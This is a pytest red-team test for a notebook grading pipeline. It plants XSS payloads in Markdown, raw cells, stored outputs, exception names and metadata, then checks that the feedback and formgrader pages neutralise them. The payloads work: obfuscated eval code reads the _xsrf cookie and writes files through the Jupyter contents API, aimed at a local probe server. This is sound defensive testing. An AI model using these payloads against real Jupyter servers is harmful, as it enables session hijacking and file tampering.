"""Red team, issue 17 item 1: nothing a student wrote is live HTML where an instructor or a student looks.

One submission of ``01_modeling`` (student ``xss-student``) carries a payload in every channel a
student controls, next to an honest one (``honest-student``, the baseline of what formgrader's own
page holds):

- Markdown cells: ``<img onerror>``, ``<script>``, ``<svg onload>``, ``<a href="javascript:">``, a
  Markdown ``[link](javascript:)``, MathJax's ``\\href{javascript:}``, ``<iframe srcdoc>``, and
  markup that only loads a URL: ``<style>@import``, a ``style`` attribute, ``<link>``,
  ``<meta http-equiv=refresh>``, ``<img src>``, ``<object>``; a cell attachment (an SVG with a
  script);
- raw cells whose metadata says ``text/html`` (``format``, ``raw_mimetype``) or nothing;
- stored outputs (``text/html``, ``application/javascript``, ``image/svg+xml``, ``text/markdown``,
  a stream, an error) of a code cell and of an answer cell: the grader must drop them;
- exceptions whose class name (``__name__``/``__qualname__``) or message is HTML: one raised by
  ``softmax`` when the checks call it, two raised by cells (one name breaks out of a Markdown code
  span with backticks);
- metadata: a cell's ``nbgrader.grade_id``, ``tags`` and ``name``, the notebook's
  ``kernelspec.display_name``, ``language_info.name``, ``title`` and ``authors``.

Each payload, when it runs, records its name in ``window.__xss``, requests
``<probe server>/xss-probe/<name>`` and, like the real attack, PUTs ``pwned-<name>.txt`` through
``/api/contents/`` with the page's ``_xsrf`` cookie (in formgrader: the instructor's session). The
payloads that only load a URL request ``/xss-probe/<name>``. The probe server (the test's own, on
127.0.0.1) answers 204, so a refresh does not navigate away.

After ``instructor.py grade``, each feedback page is opened in Chromium from ``file://`` and served
from 127.0.0.1, and formgrader's page of the submission in a Jupyter server with nbgrader's extension
(logged in as the instructor): no payload runs (in any frame, also after clicking every
``javascript:`` link), no request leaves the page but its own (feedback) or formgrader's own assets
(formgrader: none to ``/xss-probe/``, no write to ``/api/contents/``, no ``pwned-*`` file), nothing of
the student is live markup, the feedback page has a strict Content-Security-Policy, and the student's
harmless sentences are still shown (sanitised, not dropped). A failure lists which payload ran where.
"""

from __future__ import annotations

import base64
import collections
import copy
import functools
import http.server
import json
import re
import shutil
import threading
from pathlib import Path

import nbformat
import pytest

from .conftest import unavailable
from .formgrader import log_in, running_formgrader, submission_notebook_id, submission_url

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(1800)]  # grading, then formgrader

ASSIGNMENT = "01_modeling"
ATTACKER = "xss-student"
#: A second attacker: a cell attachment only (formgrader fails on it otherwise, hiding the other payloads).
ATTACHER = "xss-attachment"
HONEST = "honest-student"
ATTACKERS = (ATTACKER, ATTACHER)
#: Sentences of each attacker's own Markdown, each next to payloads: a sanitiser must keep them.
HARMLESS = {ATTACKER: ["HARMLESS-1 my notes on the stable softmax.", "HARMLESS-2 subtracting the max changes nothing.",
                       "HARMLESS-3 the temperature flattens the distribution."],
            ATTACHER: ["HARMLESS-4 an attached figure follows."]}
#: Grader limits (the submissions are small; the attacker's answers raise at once).
LIMITS = ("--cell-timeout", "15", "--notebook-timeout", "120", "--memory-mb", "2048", "--cpu-seconds", "60")
#: Milliseconds any page may take to load on a busy machine.
LOAD_TIMEOUT_MS = 120_000

#: Lists the names payloads recorded in this frame's window (an array, or whatever an attacker set).
READ_XSS = "() => { try { const x = window.__xss; return x === undefined ? [] : Array.from(x).map(String); }" \
           " catch (e) { return ['<unreadable window.__xss>']; } }"

#: Clicks every ``javascript:`` link (an instructor or a student might); returns how many.
CLICK_JS_LINKS = """() => { let n = 0;
  for (const a of document.querySelectorAll('a[href], area[href]')) {
    if (/^\\s*javascript:/i.test(a.getAttribute('href'))) { try { a.click(); } catch (e) {} n++; }
  }
  for (const a of document.querySelectorAll('a')) {  // SVG links
    const h = a.getAttribute('xlink:href') || a.getAttributeNS('http://www.w3.org/1999/xlink', 'href');
    if (h && /^\\s*javascript:/i.test(h)) { try { a.dispatchEvent(new MouseEvent('click', {bubbles: true})); }
                                           catch (e) {} n++; }
  }
  return n; }"""

#: Live markup in ``document.body``: elements that run or load things, event-handler attributes, script URLs.
LIVE_MARKUP = """() => {
  const tags = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'link',
                        'meta', 'style', 'form', 'portal']);
  const urls = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'poster',
                        'srcset', 'codebase']);
  const found = [];
  for (const el of document.body ? document.body.querySelectorAll('*') : []) {
    const tag = el.tagName.toLowerCase();
    if (tags.has(tag)) found.push('<' + tag + '>');
    for (const at of el.attributes) {
      const name = at.name.toLowerCase(), value = at.value.replace(/[\\s\\u0000-\\u001f]/g, '').toLowerCase();
      if (name.startsWith('on')) found.push(tag + ' ' + name + '=');
      else if (name === 'srcdoc') found.push(tag + ' srcdoc=');
      else if (urls.has(name) && /^(javascript|vbscript|data:text\\/html|data:image\\/svg)/.test(value))
        found.push(tag + ' ' + name + '=' + value.slice(0, 24));
      else if (name === 'style' && /url\\(|expression|@import/.test(value)) found.push(tag + ' style=url(...)');
      else if (name === 'http-equiv') found.push(tag + ' http-equiv=');
    }
  }
  return found; }"""


# -- the payloads ------------------------------------------------------------------------------------
def record_js(name: str, probe: str) -> str:
    """JavaScript (an ``eval(atob(...))``, free of quotes but ``'``) that records that payload ``name`` ran.

    It appends ``name`` to ``window.__xss``, requests ``<probe>/xss-probe/<name>`` and PUTs
    ``pwned-<name>.txt`` through the page's ``/api/contents/`` with its ``_xsrf`` cookie (the real attack).
    """
    code = (f"(window.__xss=window.__xss||[]).push('{name}');"
            f"fetch('{probe}/xss-probe/{name}',{{mode:'no-cors'}}).catch(function(){{}});"
            "var m=document.cookie.match(/_xsrf=([^;]+)/);"
            f"fetch('/api/contents/pwned-{name}.txt',{{method:'PUT',credentials:'same-origin',"
            "headers:{'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''},"
            f"body:JSON.stringify({{type:'file',format:'text',content:'{name}'}})}}).catch(function(){{}});")
    return f"eval(atob('{base64.b64encode(code.encode()).decode()}'))"


def short_js(name: str) -> str:
    """A record of ``name`` short enough for an exception's class name (the sandbox keeps 100 characters)."""
    return f"(self.__xss||=[]).push('{name}');fetch('/xss-probe/{name}')"


def short_html(name: str) -> str:
    return f'<svg onload="{short_js(name)}">'


def markdown_cells(probe: str) -> list[nbformat.NotebookNode]:
    """Markdown cells of the attacker: payloads around harmless sentences (which must stay visible)."""
    js = functools.partial(record_js, probe=probe)
    url = lambda name: f"{probe}/xss-probe/{name}"  # noqa: E731
    cells = [
        nbformat.v4.new_markdown_cell(
            f"{HARMLESS[ATTACKER][0]} <img src=x onerror=\"{js('md-img-onerror')}\">\n\n"
            f"<script>{js('md-script')}</script>\n\n"
            f"Some *emphasis* <svg onload=\"{js('md-svg-onload')}\"><circle r=\"2\"></circle></svg> and "
            f"<a href=\"javascript:{js('md-a-javascript')}\">a link</a>, "
            f"[a Markdown link](javascript:{js('md-markdown-link')}) and "
            f"$\\href{{javascript:{js('md-mathjax-href')}}}{{x}}$.\n\n"
            f"<iframe srcdoc=\"<script>{js('md-iframe-srcdoc')}</script>\"></iframe>\n"),
        nbformat.v4.new_markdown_cell(
            f"{HARMLESS[ATTACKER][1]}\n\n"
            f"<style>@import url('{url('md-style-import')}'); body {{ background: url('{url('md-style-bg')}'); }}</style>\n\n"
            f"<div style=\"background-image: url('{url('md-style-attribute')}')\">styled</div>\n\n"
            f"<link rel=\"stylesheet\" href=\"{url('md-link-stylesheet')}\">\n\n"
            f"<meta http-equiv=\"refresh\" content=\"0; url={url('md-meta-refresh')}\">\n\n"
            f"<img src=\"{url('md-img-src')}\" alt=\"remote\">\n\n"
            f"<object data=\"{url('md-object')}\"></object>\n\n"
            f"<img src=x onerror={js('md-img-unquoted')}>\n"),
    ]
    # Metadata: a cell's nbgrader grade_id, tags, name hold HTML too.
    meta = nbformat.v4.new_markdown_cell(f"{HARMLESS[ATTACKER][2]}")
    meta.metadata = {"nbgrader": {"grade_id": f"<img src=x onerror=\"{js('meta-grade-id')}\">", "grade": False,
                                  "solution": False, "locked": False, "schema_version": 3},
                     "tags": [f"<img src=x onerror=\"{js('meta-tag')}\">"],
                     "name": f"<img src=x onerror=\"{js('meta-name')}\">"}
    return cells + [meta]


def attachment_cell(probe: str) -> nbformat.NotebookNode:
    """A Markdown cell with an attached SVG that holds a script, shown as an image and as an object."""
    js = functools.partial(record_js, probe=probe)
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("attachment-svg-onload")}">'
           f'<script>{js("attachment-svg-script")}</script><circle r="2"/></svg>')
    cell = nbformat.v4.new_markdown_cell(
        f"{HARMLESS[ATTACHER][0]}\n\n![figure](attachment:pwn.svg)\n\n<img src=\"attachment:pwn.svg\">\n\n"
        "<object data=\"attachment:pwn.svg\"></object>\n")
    cell["attachments"] = {"pwn.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()}}
    return cell


def raw_cells(probe: str) -> list[nbformat.NotebookNode]:
    js = functools.partial(record_js, probe=probe)
    cells = []
    for name, metadata in (("raw-format-html", {"format": "text/html"}),
                           ("raw-mimetype-html", {"raw_mimetype": "text/html"}), ("raw-plain", {})):
        cell = nbformat.v4.new_raw_cell(f"<script>{js(name + '-script')}</script>"
                                        f"<img src=x onerror=\"{js(name + '-img')}\">")
        cell.metadata = metadata
        cells.append(cell)
    return cells


def stored_outputs(prefix: str, probe: str) -> list[nbformat.NotebookNode]:
    """Outputs a student could leave in the notebook file (the grader must never show them)."""
    js = functools.partial(record_js, probe=probe)
    out = nbformat.v4.new_output
    return [
        out("display_data", data={"text/html": f"<img src=x onerror=\"{js(prefix + '-html-img')}\">"
                                                f"<script>{js(prefix + '-html-script')}</script>",
                                  "text/plain": "x"}),
        out("display_data", data={"application/javascript": js(prefix + "-javascript"), "text/plain": "x"}),
        out("display_data", data={"image/svg+xml": f"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\""
                                                   f"{js(prefix + '-svg')}\"><script>{js(prefix + '-svg-script')}"
                                                   "</script></svg>", "text/plain": "x"}),
        out("display_data", data={"text/markdown": f"<img src=x onerror=\"{js(prefix + '-markdown')}\">",
                                  "text/plain": "x"}),
        out("execute_result", data={"text/html": f"<img src=x onerror=\"{js(prefix + '-result-html')}\">",
                                    "text/plain": "x"}, execution_count=1),
        out("stream", name="stdout", text=f"<img src=x onerror=\"{js(prefix + '-stream')}\">\n"),
        out("error", ename=f"<img src=x onerror=\"{js(prefix + '-error-ename')}\">",
            evalue=f"<img src=x onerror=\"{js(prefix + '-error-evalue')}\">",
            traceback=[f"<img src=x onerror=\"{js(prefix + '-error-traceback')}\">"]),
    ]


def exception_answer() -> str:
    """A ``softmax`` that raises an exception whose class name and message are HTML."""
    name = short_html("exc-call-name")
    assert len(name) <= 100, (len(name), name)  # the sandbox reports 100 characters of the name
    return (f"class Boom(Exception):\n    pass\n\n\nBoom.__name__ = Boom.__qualname__ = {name!r}\n\n\n"
            f"def softmax(Z):\n    raise Boom({short_html('exc-call-message')!r})\n")


def raising_cell(name: str, backticks: bool) -> nbformat.NotebookNode:
    """A cell that raises at once an exception named with HTML (in the feedback's list of failing cells)."""
    html = short_html(name)
    if backticks:  # the list shows each name as a `code span`: close it, and open one after
        html = f"a` {html} `b"
    assert len(html) <= 100, (len(html), html)
    return nbformat.v4.new_code_cell(f"Oops = type({html!r}, (Exception,), {{}})\nOops.__qualname__ = Oops.__name__\n"
                                     "raise Oops('a cell that raises')\n")


def attacker_notebook(release_nb, probe: str):
    """The release with every payload: the answers raise, every other channel carries a script."""
    from test_exercises import answers, source_notebook, submission

    _, source_nb = source_notebook(ASSIGNMENT)
    solved = answers(source_nb)
    nb = submission(release_nb, solved, {"softmax": exception_answer()})
    js = functools.partial(record_js, probe=probe)
    for cell in nb.cells:
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "softmax_with_temperature":
            cell.outputs = stored_outputs("answer-output", probe)
            cell.execution_count = 3
            cell.metadata["tags"] = [f"<img src=x onerror=\"{js('answer-tag')}\">"]
    code = nbformat.v4.new_code_cell("notes = 1  # a cell of the student's own, with outputs stored in the file")
    code.outputs = stored_outputs("code-output", probe)
    code.execution_count = 2
    extra = [*markdown_cells(probe), *raw_cells(probe), code, raising_cell("exc-cell-name", backticks=False),
             raising_cell("exc-cell-tick", backticks=True)]
    nb.cells = nb.cells[:1] + extra[:2] + nb.cells[1:] + extra[2:]
    nb.metadata["kernelspec"]["display_name"] = f"<script>{js('nb-kernelspec')}</script>"
    nb.metadata["language_info"] = {"name": f"<img src=x onerror=\"{js('nb-language')}\">"}
    nb.metadata["title"] = f"</title><script>{js('nb-title')}</script>"
    nb.metadata["authors"] = [{"name": f"<img src=x onerror=\"{js('nb-author')}\">"}]
    return nb


# -- the test's own server ----------------------------------------------------------------------------
class ProbeServer:
    """127.0.0.1, a free port: serves ``folder``, answers 204 to ``/xss-probe/...`` and any write; logs each request."""

    def __init__(self, folder: Path):
        hits = self.hits = []

        class Handler(http.server.SimpleHTTPRequestHandler):
            def log_message(self, format, *args):  # noqa: A002 - signature from the base class
                pass

            def _answer(self) -> bool:
                hits.append(f"{self.command} {self.path}")
                if self.command == "GET" and not self.path.startswith("/xss-probe/"):
                    return False
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                return True

            def do_GET(self):
                if not self._answer():
                    super().do_GET()

            do_POST = do_PUT = do_DELETE = do_PATCH = do_OPTIONS = _answer

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Handler, directory=str(folder)))
        self.httpd.daemon_threads = True
        self.origin = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def probes(self) -> list[str]:
        return [h for h in self.hits if h.split(" ", 1)[1].startswith("/xss-probe/") or not h.startswith("GET ")]

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


# -- the fixtures ---------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The course, graded, with the attackers' and the honest submission; the probe server serves it."""
    from test_exercises import answers, source_notebook, submission
    from test_grading_redteam import instructor, make_course, put

    if shutil.which("bwrap") is None:
        unavailable("bubblewrap (bwrap) is not installed: apt-get install bubblewrap (the grader's sandbox)")
    tmp = tmp_path_factory.mktemp("xss")
    course = make_course(tmp / "course")
    probe = ProbeServer(course)
    try:
        released = instructor(course, "release", ASSIGNMENT)
        assert released.returncode == 0, released.stdout + released.stderr
        name, source_nb = source_notebook(ASSIGNMENT)
        release_nb = nbformat.read(course / "release" / ASSIGNMENT / f"{name}.ipynb", 4)
        honest = submission(release_nb, answers(source_nb))
        attacker = attacker_notebook(release_nb, probe.origin)
        attacher = copy.deepcopy(honest)
        attacher.cells.insert(1, attachment_cell(probe.origin))
        for nb in (attacker, attacher):
            nbformat.validate(nb)
        put(course, {ATTACKER: (ASSIGNMENT, attacker), ATTACHER: (ASSIGNMENT, attacher), HONEST: (ASSIGNMENT, honest)})
        result = instructor(course, "grade", ASSIGNMENT, *LIMITS, "--jobs", "1")
        yield dict(course=course, tmp=tmp, probe=probe, result=result, notebook=name)
    finally:
        probe.close()


def visit(browser, url: str, before=None) -> dict:
    """Open ``url`` in a fresh context (``before(page)`` first, e.g. to log in); what the page did.

    Returns the payloads each frame recorded (also after clicking every ``javascript:`` link), every
    request after ``url`` was asked for (method, URL, status), console messages, the visible text and
    the live markup of the body.
    """
    context = browser.new_context(service_workers="block", viewport={"width": 1280, "height": 900})
    requests, console = [], []
    statuses = {}

    def route(route_obj):  # nothing leaves 127.0.0.1 (the payloads only aim at it anyway)
        if route_obj.request.url.startswith(("http://127.0.0.1:", "file:", "data:", "blob:", "about:")):
            route_obj.continue_()
        else:
            route_obj.abort()

    context.route("**/*", route)
    page = context.new_page()
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.on("console", lambda msg: console.append(f"{msg.type}: {msg.text[:300]}"))
    page.on("pageerror", lambda exc: console.append(f"uncaught: {str(exc)[:300]}"))
    try:
        if before is not None:
            before(page)
        context.on("request", lambda r: requests.append(r))
        context.on("response", lambda r: statuses.__setitem__(id(r.request), r.status))
        response = page.goto(url, wait_until="load", timeout=LOAD_TIMEOUT_MS)
        status = response.status if response is not None else None  # None: a file:// page
        page.wait_for_load_state("networkidle", timeout=LOAD_TIMEOUT_MS)
        ran = collections.OrderedDict()
        for frame in page.frames:
            try:
                for name in frame.evaluate(READ_XSS):
                    ran.setdefault(name, frame.url[:80])
            except Exception as error:  # a frame that navigated away meanwhile
                console.append(f"frame {frame.url[:80]}: {str(error)[:200]}")
        clicked = 0
        for frame in page.frames:
            try:
                clicked += frame.evaluate(CLICK_JS_LINKS)
            except Exception as error:
                console.append(f"frame {frame.url[:80]}: {str(error)[:200]}")
        page.wait_for_load_state("networkidle", timeout=LOAD_TIMEOUT_MS)
        for frame in page.frames:
            try:
                for name in frame.evaluate(READ_XSS):
                    ran.setdefault(name, frame.url[:80] + (" (after a click)" if clicked else ""))
            except Exception as error:
                console.append(f"frame {frame.url[:80]}: {str(error)[:200]}")
        text = page.evaluate("() => document.body ? document.body.innerText : ''")
        markup = page.evaluate(LIVE_MARKUP)
        csp = page.evaluate("""() => Array.from(document.querySelectorAll('meta[http-equiv]'))
            .filter((m) => m.httpEquiv.toLowerCase() === 'content-security-policy')
            .map((m) => ({content: m.content, inHead: m.parentElement === document.head}))""")
        made = [(r.method, r.url, statuses.get(id(r))) for r in requests]
        return dict(url=url, status=status, ran=dict(ran), requests=made, console=console, text=text, markup=markup, csp=csp,
                    clicked=clicked)
    finally:
        context.close()


@pytest.fixture(scope="module")
def feedback_visits(graded, browser):
    """Each attacker's feedback page, opened from file:// and served from 127.0.0.1: ``{(student, mode): visit}``."""
    course, probe = graded["course"], graded["probe"]
    visits = {}
    for student in ATTACKERS:
        page = course / "feedback" / student / ASSIGNMENT / f"{graded['notebook']}.html"
        if not page.is_file():
            pytest.fail(f"no feedback page {page}; grader output:\n{graded['result'].stdout[-3000:]}"
                        f"\n{graded['result'].stderr[-3000:]}", pytrace=False)
        served = f"/{page.relative_to(course).as_posix()}"
        for mode, url in (("file://", page.as_uri()), ("http://127.0.0.1", probe.origin + served)):
            start = len(probe.hits)
            visits[student, mode] = v = visit(browser, url)
            v["probe_hits"] = [h for h in probe.hits[start:] if h not in (f"GET {served}", "GET /favicon.ico")]
    return visits


@pytest.fixture(scope="module")
def formgrader(graded, tmp_path_factory):
    """nbgrader's formgrader over the graded course: ``(url, token, log)``; the server ends with the module."""
    with running_formgrader(graded["course"], tmp_path_factory.mktemp("formgrader")) as server:
        yield server


@pytest.fixture(scope="module")
def formgrader_visits(graded, formgrader, browser):
    """Formgrader's page of each submission, opened by the logged-in instructor: ``{student: visit}``.

    ``visits["pwned"]`` lists the ``pwned-*`` files in the course folder afterwards.
    """
    url, token, log = formgrader
    course, probe = graded["course"], graded["probe"]
    visits = {}
    for student in (HONEST, *ATTACKERS):
        sid = submission_notebook_id(course, ASSIGNMENT, graded["notebook"], student)
        start = len(probe.hits)
        visits[student] = v = visit(browser, submission_url(url, sid), before=lambda page: log_in(page, url, token))
        v["probe_hits"] = [h for h in probe.hits[start:] if h != "GET /favicon.ico"]
    visits["pwned"] = sorted(str(p.relative_to(course)) for p in course.rglob("pwned-*"))
    visits["errors"] = [line.strip() for line in log.read_text(errors="replace").splitlines()  # the server's failures
                        if re.match(r"\[E |\s*[\w.]+(Error|Exception|Invalid\w*): ", line)][-10:]
    return visits


# -- what the attacks did ----------------------------------------------------------------------------
def report(where: str, visit_: dict, requests: list[str]) -> list[str]:
    """Lines of a failure message: which payloads ran, which requests were made."""
    lines = []
    if visit_["ran"]:
        lines.append(f"{where}: payloads that ran: " + ", ".join(f"{n} [in {f}]" for n, f in visit_["ran"].items()))
    if requests:
        lines.append(f"{where}: requests: " + "; ".join(requests))
    if visit_["probe_hits"]:
        lines.append(f"{where}: the probe server got: " + "; ".join(visit_["probe_hits"]))
    return lines


def test_grading_finishes_and_drops_stored_outputs(graded):
    result, course = graded["result"], graded["course"]
    assert result.returncode in (0, 3), result.stdout[-3000:] + result.stderr[-3000:]
    nb = nbformat.read(course / "autograded" / ATTACKER / ASSIGNMENT / f"{graded['notebook']}.ipynb", 4)
    kept = []
    for index, cell in enumerate(nb.cells):
        for output in cell.get("outputs", []):
            verdict = (output.get("output_type") == "stream" and output.get("text", "").startswith("Passed")) or \
                      (output.get("output_type") == "error" and output.get("ename") == "Failed")
            if not verdict or "-output-" in json.dumps(output):  # the stored outputs' payloads are "*-output-*"
                kept.append(f"cell {index}: {json.dumps(output)[:200]}")
    assert kept == [], "the autograded notebook keeps outputs of the student:\n" + "\n".join(kept)


def test_feedback_runs_no_student_script_and_makes_no_request(feedback_visits):
    problems = []
    for (student, mode), v in feedback_visits.items():
        requests = [f"{m} {u[:120]} -> {s}" for m, u, s in v["requests"]
                    if u.split("#")[0] != v["url"] and not u.startswith("data:")]
        problems += report(f"feedback of {student} ({mode})", v, requests)
    console = {f"{student} ({mode})": v["console"] for (student, mode), v in feedback_visits.items()}
    assert problems == [], "\n".join(problems) + f"\nconsole: {json.dumps(console, indent=1)[:3000]}"


def _directives(csp: str) -> dict[str, list[str]]:
    directives = {}
    for part in csp.split(";"):
        words = part.split()
        if words:
            directives.setdefault(words[0].lower(), [w.lower() for w in words[1:]])  # the first one counts
    return directives


def test_feedback_has_a_strict_content_security_policy(feedback_visits):
    for (student, mode), v in feedback_visits.items():
        where = f"feedback of {student} ({mode})"
        assert v["csp"], f"{where}: no <meta http-equiv=Content-Security-Policy>"
        assert all(m["inHead"] for m in v["csp"]), f"{where}: a CSP <meta> outside <head> (binds only what follows)"
        governs = [_directives(m["content"]) for m in v["csp"]]
        assert any(d.get("script-src", d.get("default-src")) == ["'none'"] for d in governs), \
            f"{where}: no policy forbids every script (script-src, or default-src, 'none'): {v['csp']}"


def test_feedback_shows_the_students_text(feedback_visits):
    for (student, mode), v in feedback_visits.items():
        missing = [s for s in HARMLESS[student] if s not in v["text"]]
        assert missing == [], f"feedback of {student} ({mode}) lost the student's text {missing}:\n{v['text'][:2000]}"


def test_feedback_has_no_live_markup(feedback_visits):
    found = {f"{student} ({mode})": sorted(set(v["markup"])) for (student, mode), v in feedback_visits.items()
             if v["markup"]}
    assert found == {}, f"live markup in the feedback: {json.dumps(found, indent=1)}"


def test_formgrader_runs_no_student_script_and_makes_no_request(formgrader_visits):
    problems = []
    for student in ATTACKERS:
        v = formgrader_visits[student]
        requests = [f"{m} {u[:120]} -> {s}" for m, u, s in v["requests"]
                    if "/xss-probe/" in u or ("/api/contents" in u and m in ("PUT", "POST", "PATCH", "DELETE"))]
        problems += report(f"formgrader, submission of {student}", v, requests)
    if formgrader_visits["pwned"]:
        problems.append(f"formgrader: files the payloads wrote in the course folder: {formgrader_visits['pwned']}")
    console = {s: formgrader_visits[s]["console"] for s in ATTACKERS}
    assert problems == [], "\n".join(problems) + f"\nconsole: {json.dumps(console, indent=1)[:3000]}"


@pytest.mark.parametrize("student", ATTACKERS)
def test_formgrader_shows_the_submission(formgrader_visits, student):
    v = formgrader_visits[student]
    assert v["status"] == 200, (f"formgrader could not render the submission of {student} (HTTP {v['status']}): "
                                f"the server's errors: {formgrader_visits['errors']}")
    missing = [s for s in HARMLESS[student] if s not in v["text"]]
    assert missing == [], f"formgrader's page of {student} lost the student's text {missing}:\n{v['text'][:2000]}"
    assert "def softmax" in v["text"], v["text"][:2000]


def test_formgrader_has_no_live_markup_of_the_students(formgrader_visits):
    baseline = collections.Counter(formgrader_visits[HONEST]["markup"])
    assert formgrader_visits[HONEST]["status"] == 200, formgrader_visits["errors"]
    assert "def softmax" in formgrader_visits[HONEST]["text"], formgrader_visits[HONEST]["text"][:2000]
    found = {s: sorted(collections.Counter(formgrader_visits[s]["markup"]) - baseline) for s in ATTACKERS}
    found = {s: m for s, m in found.items() if m}
    assert found == {}, f"live markup in formgrader's page that the honest submission's page has not: {found}"


#: Every ``<math>`` of the page: shown (a box of its own), and whether the browser lays it out as MathML.
MATH_JS = """() => Array.from(document.querySelectorAll('math')).map((m) => {
  const box = m.getBoundingClientRect();
  return {visible: box.width > 0 && box.height > 0 && getComputedStyle(m).visibility === 'visible',
          mathml: m.namespaceURI === 'http://www.w3.org/1998/Math/MathML', block: m.getAttribute('display') === 'block',
          fraction: m.querySelector('mfrac') !== null};
})"""


def test_feedback_shows_part_titles_and_math_without_script(graded, browser):
    """The honest student's feedback, in Chromium: parts named by their titles, the statements' math laid out
    as MathML (no TeX left as text), no script run and no request made."""
    import sys

    from test_exercises import ROOT, source_notebook

    sys.path.insert(0, str(ROOT / "exercises" / "grading"))
    import report

    page_file = graded["course"] / "feedback" / HONEST / ASSIGNMENT / f"{graded['notebook']}.html"
    assert page_file.is_file(), graded["result"].stdout[-3000:]
    v = visit(browser, page_file.as_uri())
    assert v["ran"] == {} and [r for r in v["requests"] if r[1].split("#")[0] != v["url"]] == [], v
    labels = report.part_titles(source_notebook(ASSIGNMENT)[1])
    assert labels and all(title in v["text"] for title in labels.values()), v["text"][:2000]
    assert [grade_id for grade_id in labels if grade_id in v["text"]] == [], "parts labelled by their grade_id"
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(page_file.as_uri(), wait_until="load", timeout=LOAD_TIMEOUT_MS)
        maths = page.evaluate(MATH_JS)
    finally:
        context.close()
    assert maths and all(m["visible"] and m["mathml"] for m in maths), maths
    assert any(m["block"] and m["fraction"] for m in maths), "the displayed softmax formula is not a MathML fraction"
    left = [t for t in ("$$", "\\frac", "\\sum", "\\operatorname") if t in v["text"]]
    assert left == [], f"TeX shown as text: {left}"
